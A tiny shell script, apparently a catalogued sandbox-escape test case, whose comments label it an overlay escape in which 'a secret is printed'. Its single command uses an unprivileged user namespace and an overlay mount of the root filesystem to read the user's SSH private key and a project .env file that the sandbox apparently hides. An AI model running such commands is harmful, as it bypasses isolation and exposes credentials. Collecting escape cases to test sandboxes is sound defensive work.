# An overlay of its own shows nothing that is hidden.
# Source: third review, held
# Escape: a secret is printed
mkdir -p /tmp/u /tmp/w /tmp/m
unshare --user --map-root-user --mount bash -c 'mount -t overlay o -o lowerdir=/,upperdir=/tmp/u,workdir=/tmp/w /tmp/m && cat "/tmp/m$HOME/.ssh/id_rsa" "/tmp/m$PROJECT/.env"'
